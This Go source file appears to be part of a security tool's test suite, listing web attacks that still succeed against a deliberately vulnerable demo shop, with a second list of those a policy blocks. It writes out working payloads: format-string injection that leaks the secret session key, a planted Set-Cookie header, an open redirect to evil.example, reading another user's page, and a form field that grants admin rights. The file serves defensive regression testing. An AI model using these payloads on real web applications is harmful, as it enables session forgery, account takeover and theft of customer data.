package canon

import (
	"net/url"
	"strings"
)

// Open are attacks on the shop that work under Fumehood too, unless a policy says more. They
// are no part of a row: docs/attacks lists them under "What still works", and a test fails
// when one of them works no longer, so that the list is not out of date.
func Open() []Attack {
	attack := func(name, gain string, works func(s *Scene) bool) Attack {
		return Attack{Name: name, App: "leaky", Gain: gain, Works: works}
	}
	return []Attack{
		leaky("format: an attribute", "the key of all sessions", sourceKey, asking("/receipt", "text", "{shop.secret_key}")),
		leaky("format: the settings", "the key of all sessions", sourceKey, asking("/receipt", "text", "{shop.config}")),
		leaky("format: by what is behind a function", "the key of all sessions", sourceKey,
			asking("/receipt", "text", "{shop.view_functions[index].__globals__[app].secret_key!r:>40}")),
		attack("header of the visitor's choice", "a link plants a session", func(s *Scene) bool {
			answer := s.Try(s.Client(), asking("/raw", "text", "x", "header", "Set-Cookie", "value", "session=planted; Path=/")(s))
			return strings.Contains(strings.Join(answer.Header.Values("Set-Cookie"), "\n"), "session=planted")
		}),
		attack("redirect to another site", "a link to the shop ends elsewhere", func(s *Scene) bool {
			answer := s.Try(s.Client(), asking("/go", "to", "https://evil.example/")(s))
			return answer.Header.Get("Location") == "https://evil.example/"
		}),
		attack("anybody's page", "the address of somebody else", func(s *Scene) bool {
			return strings.Contains(s.Get(s.LoggedIn(s.Join()), "/user/1").Text, "1 Beaker Street")
		}),
		attack("the admin's page", "all customers and their passwords", func(s *Scene) bool {
			return strings.Contains(s.Get(s.Client(), "/admin").Text, adminsPassword)
		}),
		attack("a field that the form does not have", "a customer is the admin", func(s *Scene) bool {
			client := s.LoggedIn(s.Join())
			s.Post(client, "/account", url.Values{"address": {"here"}, "role": {"admin"}})
			return s.isAdmin(client, s.mine(client))
		}),
	}
}

// ruled are open attacks that a policy ends: testdata/leaky_ruled.toml has it.
func ruled() []Attack {
	var attacks []Attack
	for _, attack := range Open() {
		switch attack.Name {
		case "redirect to another site", "a field that the form does not have":
			attack.App = "leaky_ruled"
			attack.Name += ", where the policy knows better"
			attacks = append(attacks, attack)
		}
	}
	return attacks
}
